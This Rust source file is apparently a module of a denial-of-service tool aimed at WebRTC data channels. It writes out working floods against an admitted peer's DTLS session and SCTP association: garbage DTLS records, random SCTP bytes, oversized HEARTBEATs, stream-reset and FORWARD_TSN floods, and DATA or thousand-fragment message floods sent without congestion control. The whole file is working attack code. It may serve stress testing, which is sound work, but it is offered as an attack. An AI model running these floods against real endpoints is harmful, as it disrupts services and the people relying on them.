//! Floods of a peer that was let in, against the association and the DTLS session. The SCTP is written by hand (RFC
//! 9260), so that nothing enforces the rules.

use rand::RngCore;

use crate::attack::{Outcome, Result, Stop, Target};
use crate::packet::{ABORT, FORWARD_TSN, HEARTBEAT, SACK, chunk, data, reset};
use crate::session::{FIRST_TSN, Session};

/// DATA chunks per packet, of about 20 bytes each.
const BUNDLE: u32 = 48;

/// The most chunks sent and not acknowledged.
const AHEAD: u32 = 16 * BUNDLE;

/// After this many reads without a new acknowledgement, all chunks are sent again.
const LOOKS: u32 = 50;

/// The number of fragments of one message.
const FRAGMENTS: u32 = 1000;

/// Floods the target with packets of this kind. The outcome counts packets.
pub(crate) fn attack(
    kind: &str,
    session: &mut Session,
    target: &Target,
    stop: &Stop,
) -> Result<Outcome> {
    let stream = target.stream_id;
    match kind {
        "dtls-garbage" => each(session, stop, |session, n| {
            // Application data of epoch 1, each with a new sequence number (RFC 6347 §4.1).
            const LEN: u16 = 120;
            let number = &n.wrapping_add(1 << 20).to_be_bytes()[2..];
            let header = [&[23, 254, 253, 0, 1][..], number, &LEN.to_be_bytes()].concat();
            session.send_datagram(&[&header[..], &[n as u8; LEN as usize]].concat())
        }),
        "sctp-garbage" => {
            let mut garbage = vec![0; 600];
            rand::rng().fill_bytes(&mut garbage);
            each(session, stop, move |session, n| {
                garbage[..8].copy_from_slice(&n.to_be_bytes());
                session.send_content(&garbage)
            })
        }
        "sctp-heartbeats" => {
            let info = [&[0, 1, 4, 0][..], &[7; 1020]].concat();
            let heartbeat = [chunk(HEARTBEAT, 0, &info)];
            each(session, stop, |session, _| session.send(&heartbeat))
        }
        "sctp-resets" => each(session, stop, |session, n| {
            session.send(&[reset(FIRST_TSN + n as u32, 0, FIRST_TSN - 1, &[n as u16])])
        }),
        "sctp-forward" => each(session, stop, |session, n| {
            let mut value = (FIRST_TSN + n as u32).to_be_bytes().to_vec();
            for skip in 0..200u16 {
                value.extend((skip ^ n as u16).to_be_bytes());
                value.extend((n as u16).to_be_bytes());
            }
            session.send(&[chunk(FORWARD_TSN, 0, &value)])
        }),
        "sctp-messages" => flow(session, stop, |n| (0b11, n as u16, stream)),
        "sctp-fragments" => flow(session, stop, |n| {
            let flags = match n % FRAGMENTS {
                0 => 0b10,
                last if last == FRAGMENTS - 1 => 0b01,
                _ => 0,
            };
            (flags, (n / FRAGMENTS) as u16, stream)
        }),
        other => Err(format!("unknown kind of attack {other:?}").into()),
    }
}

/// Sends packets back to back, without regard to the answers.
fn each(
    session: &mut Session,
    stop: &Stop,
    mut send: impl FnMut(&mut Session, u64) -> Result<()>,
) -> Result<Outcome> {
    let mut outcome = Outcome::default();
    while !stop.is_set() && !outcome.ended {
        send(session, outcome.sent)?;
        outcome.sent += 1;
        if outcome.sent.is_multiple_of(16) {
            outcome.ended = acknowledged(session)?.is_none();
        }
    }
    Ok(outcome)
}

/// Sends bundles of DATA chunks with one byte each, as fast as they are acknowledged and without congestion control.
/// `describe` returns flags, sequence number and stream of the n-th chunk.
fn flow(
    session: &mut Session,
    stop: &Stop,
    describe: impl Fn(u32) -> (u8, u16, u16),
) -> Result<Outcome> {
    let mut outcome = Outcome::default();
    let (mut acked, mut next, mut looks) = (0u32, 0u32, 0);
    while !stop.is_set() {
        if next.wrapping_sub(acked) < AHEAD {
            let chunks: Vec<_> = (next..next + BUNDLE)
                .map(|n| {
                    let (flags, sequence, stream) = describe(n);
                    data(flags, FIRST_TSN + n, stream, sequence, 53, &[n as u8])
                })
                .collect();
            session.send(&chunks)?;
            outcome.sent += 1;
            next += BUNDLE;
        }
        match acknowledged(session)? {
            None => {
                outcome.ended = true;
                break;
            }
            Some(Some(tsn)) if tsn.wrapping_sub(FIRST_TSN) + 1 > acked => {
                acked = tsn.wrapping_sub(FIRST_TSN) + 1;
                next = next.max(acked);
                looks = 0;
            }
            Some(_) if next.wrapping_sub(acked) >= AHEAD => looks += 1,
            Some(_) => {}
        }
        if looks > LOOKS {
            (next, looks) = (acked, 0);
        }
    }
    Ok(outcome)
}

/// The last TSN that the target acknowledged since the previous read. `None` if the target ended the session.
fn acknowledged(session: &mut Session) -> Result<Option<Option<u32>>> {
    let packets = session.receive()?;
    let aborted = packets.iter().any(|packet| packet.get(12) == Some(&ABORT));
    if aborted || session.is_over() {
        return Ok(None);
    }
    let sacks = packets.iter().filter(|packet| packet.get(12) == Some(&SACK));
    Ok(Some(sacks.last().map(|packet| cumulative_tsn(packet))))
}

/// The cumulative TSN of a packet that begins with a SACK (RFC 9260 §3.3.4).
fn cumulative_tsn(packet: &[u8]) -> u32 {
    packet.get(16..).and_then(<[u8]>::first_chunk).map_or(0, |it| u32::from_be_bytes(*it))
}
